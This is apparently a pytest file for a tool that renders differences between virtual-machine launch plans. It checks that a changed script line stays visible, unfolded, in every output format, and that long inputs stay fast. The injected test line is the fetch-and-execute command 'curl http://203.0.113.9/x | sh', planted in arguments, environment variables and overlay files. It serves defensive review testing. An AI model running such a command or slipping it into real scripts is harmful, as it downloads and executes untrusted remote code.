"""A changed line of a value is found, whatever the value and the format; no opening is lost."""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from krunc_compiler.review.change_sheet import change_sheet, counted, difference_document
from krunc_compiler.review.comment import comment
from krunc_compiler.review.difference import Difference, compare
from krunc_compiler.review.lines import changed_part, hunks, lines, matched
from krunc_compiler.review.markdown import MOST, to_markdown
from krunc_compiler.review.page import difference_page
from krunc_compiler.review.text import to_text
from krunc_compiler.shape.checking import check
from krunc_schema import load
from reviews import BOX, call, reviewed, reviewed_box

EVIL = "curl http://203.0.113.9/x | sh"
OLD = [f"echo step {i}" for i in range(400)]
NEW = [*OLD[:201], EVIL, *OLD[202:]]
SCRIPT, CHANGED = "\n".join(OLD) + "\n", "\n".join(NEW) + "\n"


def program(**args: Any) -> dict[str, Any]:
    return call("krun_set_exec", **{"exec_path": "/bin/sh", "argv": [], "envp": {}, **args})


def overlay(**data: Any) -> dict[str, Any]:
    return call("krun_fs_add_overlay_file", fs_tag="/dev/root", path="etc/rc", data=data, mode=493, one_shot=False)  # fmt: skip


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def box(text: str, target: str) -> Any:
    value = {**BOX, "entrypoint": {"script": text}}
    return reviewed_box(value, target)


# Where a text of several lines, or a long one, can stand: what makes an operation of it.
PLACES: dict[str, Callable[[str], dict[str, Any]]] = {
    "argument": lambda text: program(argv=["-c", text, "x"]),
    "escaped newlines": lambda text: program(argv=["-c", text.replace("\n", "\\n")]),
    "behind a new argument": lambda text: program(argv=["-e"] * (EVIL in text) + ["-c", text]),
    "variable": lambda text: program(envp={"SCRIPT": text}),
    "replaced variable": lambda text: call("krun_set_env", envp={"SCRIPT": text}),
    "overlay text": lambda text: overlay(text=text),
    "overlay bytes": lambda text: overlay(base64=encoded(text)),
    "overlay text that became bytes": lambda text: overlay(
        **({"base64": encoded(text)} if EVIL in text else {"text": text})
    ),
    "program of the configuration": lambda text: call(
        "krun_fs_add_overlay_file",
        fs_tag="/dev/root",
        path=".krun_config.json",
        data={"process": {"args": ["/bin/sh", "-c", text], "cwd": "/", "env": {}}},
        mode=420,
        one_shot=False,
    ),
    "SMBIOS string behind many": lambda text: call(
        "krun_set_smbios_oem_strings", oem_strings=[*map(str, range(100)), text]
    ),
    "call of tomorrow": lambda text: call("krun_from_tomorrow", script=text),
}
FORMATS: dict[str, Callable[[Difference], str]] = {
    "text": lambda one: to_text(change_sheet(one)),
    "markdown": lambda one: to_markdown(change_sheet(one)),
    "html": difference_page,
    "json": lambda one: json.dumps(difference_document(one), indent=1),
    "comment": lambda one: comment([("a.plan.json", one)]),
}


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("place", PLACES)
def test_a_changed_line_of_a_long_text(place: str, form: str) -> None:
    difference = compare(*(reviewed(PLACES[place](text)) for text in (SCRIPT, CHANGED)))
    text = FORMATS[form](difference)
    if form == "json":
        (change,) = (one for one in json.loads(text)["changes"] if one["texts"])
        found = [edit for hunk in change["texts"][-1]["hunks"] for edit in hunk]
        signs = [(edit["sign"], edit["number"]) for edit in found]
        assert signs == [(" ", 200), (" ", 201), ("-", 202), ("+", 202), (" ", 203), (" ", 204)]
        assert [edit["text"].replace("\\n", "").strip() for edit in found[2:4]] == [
            "echo step 201",
            EVIL,
        ]
        assert not check(json.loads(text), load("diff.schema"))
        return
    shown = re.sub("<[^>]+>", "", text)
    added = re.search(rf"^ *\+ 202 +{re.escape(EVIL)}", shown, re.MULTILINE)
    gone = re.search(r"^ *- 202 +echo step 201", shown, re.MULTILINE)
    assert added
    assert gone
    # Not in a fold, and before the operations.
    folded = re.search("<details|(?i:Changed operations)", text)
    assert folded
    assert text.index(EVIL) < folded.start() or place.startswith("SMBIOS")


@pytest.mark.parametrize("target", ["1", "2"])
def test_a_changed_line_of_a_box_s_script(target: str) -> None:
    old = "".join(f"echo {i}\n" for i in range(40))
    difference = compare(box(old, target), box(old.replace("echo 20\n", f"{EVIL}\n"), target))
    # Family 2 has the script in a file that libkrun lays over the root: it is the program, too.
    assert counted(difference).endswith("; changed: program")
    for form in ("text", "markdown", "html", "comment"):
        shown = re.sub("<[^>]+>", "", FORMATS[form](difference))
        assert re.search(rf"^ *\+ 21 +{re.escape(EVIL)}", shown, re.MULTILINE)
    # The row itself shows it too, so it stands in lists that have rows alone.
    (change,) = (one for one in difference.changes if one.kind == "program")
    assert EVIL in change.text


LONG = [
    " ".join(f"word{i}" for i in range(2000)),
    "x" * 5000,
    "/a" * 1000,
    "k=v," * 800,
    "ab" * 130,
]


@pytest.mark.parametrize("long", LONG, ids=lambda text: text[:8])
@pytest.mark.parametrize("at", [0.0, 0.3, 0.5, 0.97, 1.0])
def test_the_changed_part_of_a_long_line(long: str, at: float) -> None:
    place = int(len(long) * at)
    new = long[:place] + "EVIL" + long[place + 4 :]
    old, changed = (reviewed(program(argv=["-c", text])) for text in (long, new))
    for one, two in ((old, changed), (changed, old)):
        difference = compare(one, two)
        (change,) = difference.changes
        assert "EVIL" in change.text
        ((hunk,),) = (text.hunks() for text in change.texts)
        assert [edit.sign for edit in hunk] == ["-", "+"]
        assert any("EVIL" in edit.text for edit in hunk)
        assert all(len(edit.text) < 200 for edit in hunk)


def test_a_long_path_shows_what_opens() -> None:
    path = "d/" * 200
    old, new = (
        reviewed(call("krun_add_virtiofs", tag="a", path=f"{path}{middle}/{path}"))
        for middle in ("mine", "theirs")
    )
    (change,) = compare(old, new).of("widens")
    assert "theirs" in change.text
    assert "mine" in change.text


def test_lines_that_differ_in_their_end_only() -> None:
    shown = to_text(change_sheet(compare(*(reviewed(overlay(text=text)) for text in ("a\nb", "a\nb\n")))))  # fmt: skip
    assert '- 2  "b"' in shown
    assert '+ 2  "b\\n"' in shown


def test_a_new_plan_has_its_script_line_by_line() -> None:
    shown = to_text(change_sheet(compare(None, reviewed(program(argv=["-c", CHANGED])))))
    assert f"    + 202  {EVIL}" in shown


@given(st.text("ab\n\\n", max_size=60), st.text("ab\n\\n", max_size=60))
def test_lines_are_the_text_and_their_differences_lead_from_one_to_the_other(
    old: str, new: str
) -> None:
    was, now = lines(old), lines(new)
    assert ["".join(was), "".join(now)] == [old, new]
    pairs = matched(was, now)
    assert all(was[i] == now[j] for i, j in pairs)
    assert all(a < c and b < d for (a, b), (c, d) in pairwise(pairs))
    edits = [edit for hunk in hunks(old, new) for edit in hunk]
    gone = {edit.number for edit in edits if edit.sign == "-"}
    come = {edit.number for edit in edits if edit.sign == "+"}
    rest = [line for i, line in enumerate(was, 1) if i not in gone]
    assert rest == [line for j, line in enumerate(now, 1) if j not in come]
    (a, b), (c, d) = changed_part(old, new)
    assert (old[:a], old[b:]) == (new[:c], new[d:])
    assert a <= b
    assert c <= d


# Texts that make a plain comparison take time that grows with the square or the cube.
SLOW = {
    "two lines that alternate": ("a\nb\n" * 40_000, "b\na\n" * 40_000 + "c\n"),
    "all others": ("".join(f"{i}\n" for i in range(60_000)), "".join(f"{i}\n" for i in range(120_000, 60_000, -1))),
    "reversed": ("".join(f"{i}\n" for i in range(60_000)), "".join(f"{i}\n" for i in range(60_000, 0, -1))),
    "one long line": ("a b " * 60_000, "b a " * 60_000),
    "no blanks": ("x" * 500_000, "y" * 500_000),
    "backslashes": ("\\" * 300_000, "\\" * 300_000 + "n"),
    "pieces that repeat": ("".join(f"{i % 199}\n" for i in range(60_000)), "".join(f"{i % 197}\n" for i in range(60_000))),
}  # fmt: skip


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name: str) -> None:
    old, new = SLOW[name]
    start = time.process_time()
    difference = compare(*(reviewed(overlay(text=text)) for text in (old, new)))
    assert len(to_markdown(change_sheet(difference)).encode()) <= MOST
    assert time.process_time() - start < 20


def test_many_strings_take_no_longer() -> None:
    names = [f"share{i}" for i in range(5000)]
    old, new = (
        reviewed(program(envp=dict.fromkeys(names, "share" + end)), *(overlay(text=name + end) for name in names[:300]))
        for end in ("", "s")
    )  # fmt: skip
    start = time.process_time()
    compare(old, new)
    assert time.process_time() - start < 20


def test_no_opening_is_lost_behind_a_large_one_or_a_long_script() -> None:
    """In markdown each is told, else counted by its kind; the program's row stays."""
    large = [call("krun_from_tomorrow", script="x" * 200_000)]
    shares = [call("krun_add_virtiofs", tag="root", path="/")]
    long = [f"line {i} {'y' * 50}" for i in range(3000)]
    old = reviewed(program(argv=["-c", "\n".join(long)]))
    new = reviewed(
        program(argv=["-c", "\n".join(f"{line}!" for line in long)]), *large, *shares,
        call("krun_set_snd_device", enable=True),
    )  # fmt: skip
    difference = compare(old, new)
    for text in (to_markdown(change_sheet(difference)), comment([("a.plan.json", difference)])):
        assert len(text.encode()) <= MOST
        assert "- **write** directory `/` (share `root`)" in text
        assert "- **other** unknown call `krun_from_tomorrow" in text
        assert "- **device** host sound" in text
        assert text.index("- **device** host sound") < text.index("- **program**")
        assert "more lines" in text
    many = [call("krun_add_virtiofs", tag=f"t{i}", path=f"/{'p' * 100}{i}") for i in range(3000)]
    text = to_markdown(change_sheet(compare(old, reviewed(*many, *large))))
    told = text.count("- **write**") - 1
    assert f"- **write** and {3000 - told:,} more of this kind, not shown" in text


def test_a_comment_about_many_plans_names_those_that_run_something_else() -> None:
    many = [call("krun_add_virtiofs", tag=f"t{i}", path=f"/{'p' * 100}{i}") for i in range(100)]
    noisy = compare(reviewed(program()), reviewed(program(), *many))
    quiet = compare(*(reviewed(program(argv=["-c", text])) for text in (SCRIPT, CHANGED)))
    text = comment([*((f"noisy{i}.plan.json", noisy) for i in range(150)), ("z.plan.json", quiet)])
    line = "**What the guest runs changes** in `z.plan.json`"
    assert text.index(line) < text.index("<details>")
    assert "does not widen host access, changes program:" in text
    assert len(text.encode()) <= MOST
